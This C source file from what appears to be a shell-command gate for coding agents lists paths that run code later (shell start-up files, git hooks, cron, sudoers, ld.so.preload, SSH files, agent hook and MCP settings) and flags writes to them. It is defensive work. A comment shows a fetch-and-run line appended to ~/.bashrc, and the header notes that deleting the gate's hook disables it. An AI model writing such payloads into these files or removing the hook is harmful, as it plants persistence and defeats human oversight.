/* autorun.c - files whose contents some program runs later: shell start-up
 * files, git hooks, cron tables, systemd units, and coding agents' own
 * settings (their hooks and MCP servers are programs, and removing waggle's
 * hook from them turns the gate off). The same two tables for every face:
 * the hook's hook.write_runs_code and the gateway's gateway.write_runs_code
 * (through wg_shell_guarded_path, guarded.c) and the bash gate's
 * critical.agent_config (a write by a shell command, analyze.c).
 *
 * Pure functions of the text; no state, thread-safe. */
#include "core/shell/internal.h"

#include <stdint.h>
#include <string.h>

typedef struct {
    int basename;           /* 1: the last component equals needle; 0: needle is inside */
    const char *needle;
    const char *what;
} code_row;

/* Files that run code, the coding agents' own settings apart (agent_rows,
 * tried after these; the bash gate's rule critical.agent_config reads only
 * those: start-up files are persist.c's). */
static const code_row runs_code[] = {
    { 1, ".bashrc",        "a shell start-up file" },
    { 1, ".bash_profile",  "a shell start-up file" },
    { 1, ".bash_login",    "a shell start-up file" },
    { 1, ".bash_logout",   "a shell start-up file" },
    { 1, ".profile",       "a shell start-up file" },
    { 1, ".zshrc",         "a shell start-up file" },
    { 1, ".zshenv",        "a shell start-up file" },
    { 1, ".zprofile",      "a shell start-up file" },
    { 1, ".zlogin",        "a shell start-up file" },
    { 1, "config.fish",    "a shell start-up file" },
    { 0, "/.git/hooks/",   "a git hook (runs on the next git command)" },
    { 0, "/.git/config",   "git's config (core.hooksPath, core.fsmonitor and sshCommand run programs)" },
    { 0, "/.husky/",       "a git hook (runs on the next git command)" },
    { 0, "/.config/autostart/", "a desktop autostart entry" },
    { 0, "/.config/systemd/",   "a systemd unit" },
    { 0, "/etc/systemd/",  "a systemd unit" },
    { 0, "/etc/cron",      "a cron table" },
    { 0, "/var/spool/cron/", "a cron table" },
    { 0, "/etc/sudoers",   "the sudo policy" },
    { 0, "/etc/profile",   "a shell start-up file" },
    { 0, "/etc/ld.so.preload", "the dynamic loader's preload list" },
    { 0, "/.ssh/",         "SSH's keys, config or rc (authorized_keys logs in, ProxyCommand and rc run programs)" },
    { 0, "/.aws/config",   "the AWS CLI config (credential_process runs a program)" },
};

/* A coding agent's settings and MCP lists (the bash gate's rule too). */
static const code_row agent_rows[] = {
    { 0, "/.claude/settings", "a Claude Code settings file (hooks run programs; waggle's own hook lives there)" },
    { 0, "/.claude/hooks/",   "a Claude Code hook (runs on the next tool call)" },
    { 0, "/.claude/agents/",  "a Claude Code agent definition (its tools and hooks)" },
    { 1, ".mcp.json",      "an MCP server list (each server is a program the agent starts)" },
    { 0, "/.cursor/mcp.json", "an MCP server list (each server is a program the agent starts)" },
    { 0, "/.cursor/hooks.json", "Cursor's hooks (programs it runs)" },
    { 0, "/.codex/config.toml", "the Codex CLI config (hooks and MCP servers run programs)" },
    { 0, "/.gemini/settings.json", "a Gemini CLI settings file (hooks and MCP servers run programs)" },
    { 0, "/.vscode/tasks.json", "editor tasks (a task can run when the folder opens)" },
    { 0, "/.vscode/settings.json", "editor settings (terminal and tool paths run programs)" },
    { 1, ".envrc",         "a direnv file (runs when a shell enters the directory)" },
};

/* needle inside t[0,n); a needle starting with '/' also matches at the
 * start of a relative path (".claude/settings.json", "./.mcp.json"). */
static int contains(const char *t, size_t n, const char *needle)
{
    size_t k = strlen(needle);
    if (needle[0] == '/' && n >= k - 1 && memcmp(t, needle + 1, k - 1) == 0)
        return 1;
    for (const char *p = t; (size_t)(p - t) + k <= n; p++) {
        p = memchr(p, needle[0], n - (size_t)(p - t) - k + 1);
        if (!p)
            return 0;
        if (memcmp(p, needle, k) == 0)
            return 1;
    }
    return 0;
}

/* The bytes of t as a 256-bit set. */
static void byte_set(uint64_t set[4], const char *t, size_t n)
{
    set[0] = set[1] = set[2] = set[3] = 0;
    for (size_t i = 0; i < n; i++) {
        unsigned char b = (unsigned char)t[i];
        set[b >> 6] |= (uint64_t)1 << (b & 63);
    }
}

static int in_set(const uint64_t set[4], char ch)
{
    unsigned char b = (unsigned char)ch;
    return (set[b >> 6] >> (b & 63)) & 1;
}

/* A row can match only if t holds the needle's first four bytes (the
 * first unless it is the '/' a relative path may lack): one bit test
 * each skips most rows for most words (this runs on every target of rm
 * and of every write). */
static int may_match(const code_row *r, const uint64_t set[4])
{
    const char *nd = r->needle;
    if (nd[0] != '/' && !in_set(set, nd[0]))
        return 0;
    for (int i = 1; i < 4 && nd[i]; i++)
        if (!in_set(set, nd[i]))
            return 0;
    return 1;
}

/* The first row of rows[0, count) that t (basename base) matches, or NULL. */
static const char *first_row(const code_row *rows, size_t count, const char *t, size_t n,
                             const char *base, const uint64_t set[4])
{
    size_t bl = n - (size_t)(base - t);
    for (size_t i = 0; i < count; i++) {
        const code_row *r = &rows[i];
        if (!may_match(r, set))
            continue;
        if (r->basename ? (bl == strlen(r->needle) && memcmp(base, r->needle, bl) == 0)
                        : contains(t, n, r->needle))
            return r->what;
    }
    return NULL;
}

int sh_autorun_table_ok(void)
{
    for (size_t i = 0; i < sizeof agent_rows / sizeof *agent_rows; i++)
        if (!strchr(agent_rows[i].needle, '.'))
            return 0;
    return 1;
}

const char *sh_runs_code_path(const char *t, size_t n, int agents_only)
{
    /* every agent row names a dot file or a file with an extension
     * (sh_autorun_table_ok): a word without '.' is none of them (most
     * targets of rm and of writes) */
    if (agents_only && !memchr(t, '.', n))
        return NULL;
    const char *base = t;
    for (size_t i = n; i > 0; i--)
        if (t[i - 1] == '/') {
            base = t + i;
            break;
        }
    uint64_t set[4];
    byte_set(set, t, n);
    const char *what = agents_only ? NULL : first_row(runs_code, sizeof runs_code / sizeof *runs_code,
                                                      t, n, base, set);
    if (!what)
        what = first_row(agent_rows, sizeof agent_rows / sizeof *agent_rows, t, n, base, set);
    if (what)
        return what;
    /* "/x/.git/config" is caught above; so is a path that ends in ".git/hooks" */
    if (!agents_only && n >= 11 && memcmp(t + n - 11, "/.git/hooks", 11) == 0)
        return "a git hook (runs on the next git command)";
    return NULL;
}

int sh_check_agent_config(sh_ctx *cx, const sh_view *v, const sh_word *w, const char *who, const char *verb)
{
    if (w->flags & (SH_W_TRUNC | SH_W_CTRL))
        return 0;
    const char *what = sh_runs_code_path(v->c->text + w->off, w->len, 1);
    if (!what)
        return 0;
    sh_verdict(cx, WG_SHELL_CRITICAL, "critical.agent_config", who, verb, what, v->via);
    return 1;
}

int sh_check_edited(sh_ctx *cx, const sh_view *v, const char *who)
{
    for (int j = v->i + 1; j < v->end; j++) {
        const sh_word *w = &v->c->w[j];
        if (sh_check_vital(cx, v, w, who, " edits ") || sh_check_agent_config(cx, v, w, who, " edits "))
            return 1;
        if (sh_wtext(v->c, j)[0] != '-' &&
            sh_check_persist_write(cx, v, sh_wtext(v->c, j), w->len, who))
            return 1;                   /* sed -i '$a curl x|sh' ~/.bashrc */
    }
    return 0;
}
